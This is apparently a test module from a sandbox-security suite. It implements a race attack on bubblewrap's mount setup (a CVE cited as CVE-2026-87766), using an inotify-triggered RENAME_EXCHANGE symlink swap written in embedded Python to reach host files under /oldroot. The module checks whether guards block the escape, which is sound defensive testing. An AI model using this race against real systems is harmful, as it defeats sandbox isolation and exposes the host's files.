import { setTimeout as delay } from "node:timers/promises";
import { messageOf } from "@ambit/core/plugin";
import { commandOf, runCommand, textOf } from "../../programs/run-program.js";
import { waitForLine } from "../../programs/wait-for.js";
import { repetitions } from "../../repetitions.js";
import { type Attack, blocked, impossible, notRun, reached, type Stage } from "../attack.js";
import { outcomeOf } from "../program-attack.js";
import { damage } from "./outside.js";

/** How many processes are started while the first one exchanges the path under them. */
const launches = repetitions({ short: 120, soak: 2_000 });
/** Launches after which something must have opened the workspace, if launches do that at all. */
const firstLaunches = 10;

/**
 * CVE-2026-87766: bubblewrap before 0.12 follows links in the path that it mounts on, with the host's tree still at
 * `/oldroot`. A process that is already inside exchanges a listed path for such a link while the next process's sandbox
 * is made. The path is listed but doesn't exist yet, so the first process's own sandbox has no mount that pins it.
 */
export const launchRace: Attack = {
  id: "filesystem.workspace-only/exchange-under-a-launch",
  stoppedBy: ["rules for all jails that live", "second bubblewrap"],
  capability: "filesystem.workspace-only",
  title: "exchange a listed path for a link to the host while another process's sandbox is made",
  alone: true,
  // Measured: without a guard, a launch loses with a chance of about 1 in 10, also on a busy host.
  controlTries: 5,
  perform: async (stage) => {
    const sandbox = await stage.openAnother({ filesystem: { mode: "workspace", readable: ["late"] } });
    const parameters = { base: sandbox.workspace, folder: stage.decoys.folder.path };
    const racing = await sandbox.spawn(commandOf(race, parameters, { role: "agent" }));
    const began = await waitForLine(racing.stdout, "RACING");
    const { ran, happened, isIdle } = await launchAll(stage, sandbox);
    await racing.stdin.close().catch(() => undefined); // It may have ended by itself; its output shows why.
    const [stdout, stderr, exit] = await Promise.all([
      textOf(racing.stdout),
      textOf(racing.stderr),
      racing.exit,
    ]);
    if (happened !== undefined) return reached(happened);
    const outcome = outcomeOf({ stdout: `RAN\n${began ?? ""}\n${stdout}`, stderr, ...exit });
    // Nothing is shown about a launch that looks for nothing in the workspace.
    if (outcome.detail.includes(" 0 exchanges")) return impossible("no launch opened the workspace");
    if (isIdle) return notRun(`the exchanges began late: ${outcome.detail}`);
    return outcome.result === "reached"
      ? blocked(`${launches} launches stayed inside (${ran} of them ran; ${outcome.detail})`)
      : outcome;
  },
};

async function launchAll(
  stage: Stage,
  sandbox: Stage["sandbox"],
): Promise<{ readonly ran: number; readonly happened: string | undefined; readonly isIdle?: boolean }> {
  let ran = 0;
  for (let round = 0; round < launches; round++) {
    try {
      const { code } = await runCommand(sandbox, { argv: ["/bin/sh", "-c", ":"], env: {} });
      if (code === 0) ran++;
    } catch (error) {
      // A refused launch counts like one that stays inside: the host's files show the outcome.
      if (messageOf(error).includes("didn't end within")) throw error;
    }
    const happened = await damage(stage);
    if (happened !== undefined) return { ran, happened: `${happened}, in launch ${round + 1}` };
    if (round + 1 === firstLaunches && !(await hasExchanged(sandbox)))
      return { ran, happened: undefined, isIdle: true };
  }
  return { ran, happened: undefined };
}

/** Says so after its first exchange, within two seconds: a busy host may delay it. */
async function hasExchanged(sandbox: Stage["sandbox"]): Promise<boolean> {
  const path = `${sandbox.workspace}/exchanged`;
  for (let look = 0; look < 20; look++) {
    const isThere = await sandbox.readFile(path).then(
      () => true,
      () => false,
    );
    if (isThere) return true;
    await delay(100);
  }
  return false;
}

/**
 * Opening the workspace for the next launch is the signal (inotify). The link then takes the file's place in one call
 * (RENAME_EXCHANGE) and gives it back, each after a random time in the order of a launch's: so that the check sees the
 * file and the mount the link, also where a busy host makes a launch longer. The link leads to its target through
 * others, which makes each look-up longer.
 */
const race = `
import random, select
number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
IN_OPEN, IN_NONBLOCK = 0x20, 0x800
os.chdir(P["base"])
with open("late", "w") as file:
    file.write("the run's own")
length = 24
for index in range(length):
    os.symlink("link-%d" % (index + 1), "link-%d" % index)
os.symlink("link-0", "link")
watch = check(libc.inotify_init1(IN_NONBLOCK))
check(libc.inotify_add_watch(watch, b".", IN_OPEN))
exchanges = launches = 0
def exchange():
    global exchanges
    syscall(number, -100, b"late", -100, b"link", 2)
    exchanges += 1
def target():
    name = "link-%d" % length
    if os.path.lexists(name):
        os.unlink(name)
    os.symlink("/oldroot%s/made-%d" % (P["folder"], launches), name)
def signalled(seconds):
    ready = select.select([watch, 0], [], [], seconds)[0]
    if watch in ready:
        os.read(watch, 65536)
    return ready
def swap():
    global launches
    while True:
        target()
        ready = signalled(None)
        if 0 in ready:
            return "%d exchanges in %d launches" % (exchanges, launches)
        longest = random.choice((0.01, 0.02, 0.08))
        time.sleep(random.uniform(0, longest))
        exchange()
        time.sleep(random.uniform(0.001, longest))
        exchange()
        signalled(0)
        if launches == 0:
            open("exchanged", "w").close()
        launches += 1
say("RACING")
attempt("exchange", swap)
`;
